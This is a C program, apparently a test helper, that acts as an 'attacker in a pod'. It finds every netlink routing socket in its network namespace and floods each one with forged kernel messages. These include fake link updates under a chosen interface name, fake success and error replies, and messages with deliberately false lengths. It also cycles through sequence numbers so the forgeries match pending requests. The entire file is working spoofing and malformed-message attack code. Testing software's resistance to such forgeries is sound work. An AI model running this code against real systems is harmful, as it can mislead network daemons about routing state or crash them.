/*
 * An attacker in a pod: sends forged netlink messages to every routing socket of its network
 * namespace but its own, as fast as it can, until it is killed. A socket that takes messages of
 * anybody reads these as answers of the kernel.
 *
 * arguments: the interface's index, and the name that it shall seem to have
 */
#include <linux/netlink.h>
#include <linux/rtnetlink.h>
#include <net/if.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

enum { MOST_BYTES = 512, MOST_FORGERIES = 16 };
static struct forgery {
  uint8_t bytes[MOST_BYTES];
  size_t length;
} forgeries[MOST_FORGERIES];
static size_t count;

static struct nlmsghdr *begin(uint16_t type, size_t fixed) {
  struct nlmsghdr *header = (void *)forgeries[count].bytes;
  header->nlmsg_type = type;
  header->nlmsg_len = (uint32_t)NLMSG_LENGTH(fixed);
  return header;
}

static void attribute(struct nlmsghdr *header, uint16_t type, const void *value, size_t size) {
  struct rtattr *one = (void *)((uint8_t *)header + NLMSG_ALIGN(header->nlmsg_len));
  one->rta_type = type;
  one->rta_len = (uint16_t)RTA_LENGTH(size);
  memcpy(RTA_DATA(one), value, size);
  header->nlmsg_len = (uint32_t)(NLMSG_ALIGN(header->nlmsg_len) + RTA_ALIGN(one->rta_len));
}

/* The datagram is as long as its message says, unless a lie about that is set afterwards. */
static struct nlmsghdr *end(struct nlmsghdr *header) {
  forgeries[count++].length = header->nlmsg_len;
  return header;
}

static void prepare(int index, const char *name) {
  const int success = 0, refusal = -19;
  for (int type = RTM_NEWLINK; type <= RTM_DELLINK; type++) {
    struct nlmsghdr *header = begin((uint16_t)type, sizeof(struct ifinfomsg));
    *(struct ifinfomsg *)NLMSG_DATA(header) = (struct ifinfomsg){.ifi_index = index};
    attribute(header, IFLA_IFNAME, name, strlen(name) + 1);
    end(header);
  }
  for (int n = 0; n < 2; n++) {
    struct nlmsghdr *header = begin(NLMSG_ERROR, sizeof(struct nlmsgerr));
    memcpy(NLMSG_DATA(header), n ? &refusal : &success, sizeof success);
    end(header);
  }
  end(begin(NLMSG_DONE, sizeof(int)));
  /* Lengths that lie: of the message, of a nexthop. */
  const uint32_t lies[] = {0, 1, 15, 0x7fffffff, 0xfffffff0, 0xffffffff};
  for (size_t n = 0; n < sizeof lies / sizeof *lies; n++)
    end(begin(RTM_NEWADDR, sizeof(struct ifaddrmsg)))->nlmsg_len = lies[n];
  struct nlmsghdr *route = begin(RTM_NEWROUTE, sizeof(struct rtmsg));
  const struct rtnexthop nowhere = {.rtnh_len = 0, .rtnh_ifindex = index};
  attribute(route, RTA_MULTIPATH, &nowhere, sizeof nowhere);
  end(route);
}

/* The sequence numbers of an answer are those of its request: tried from 0 up. */
static void send_all(int fd, uint32_t port) {
  struct sockaddr_nl to = {.nl_family = AF_NETLINK, .nl_pid = port};
  for (uint32_t sequence = 0; sequence < 64; sequence++)
    for (size_t n = 0; n < count; n++) {
      ((struct nlmsghdr *)forgeries[n].bytes)->nlmsg_seq = sequence;
      (void)!sendto(fd, forgeries[n].bytes, forgeries[n].length, MSG_DONTWAIT,
                    (struct sockaddr *)&to, sizeof to);
    }
}

int main(int argument_count, char **arguments) {
  struct sockaddr_nl self = {.nl_family = AF_NETLINK};
  socklen_t size = sizeof self;
  int fd = socket(AF_NETLINK, SOCK_RAW, NETLINK_ROUTE);
  if (argument_count != 3 || fd < 0 || bind(fd, (struct sockaddr *)&self, sizeof self) < 0 ||
      getsockname(fd, (struct sockaddr *)&self, &size) < 0)
    return 1;
  prepare(atoi(arguments[1]), arguments[2]);
  printf("ready\n");
  fflush(stdout);
  for (;;) {
    /* A line a socket: sk, protocol, port, ... */
    FILE *sockets = fopen("/proc/self/net/netlink", "r");
    char line[256];
    while (sockets && fgets(line, sizeof line, sockets)) {
      int protocol;
      uint32_t port;
      if (sscanf(line, "%*s %d %u", &protocol, &port) == 2 && protocol == NETLINK_ROUTE &&
          port != 0 && port != self.nl_pid)
        send_all(fd, port);
    }
    if (sockets) fclose(sockets);
  }
}
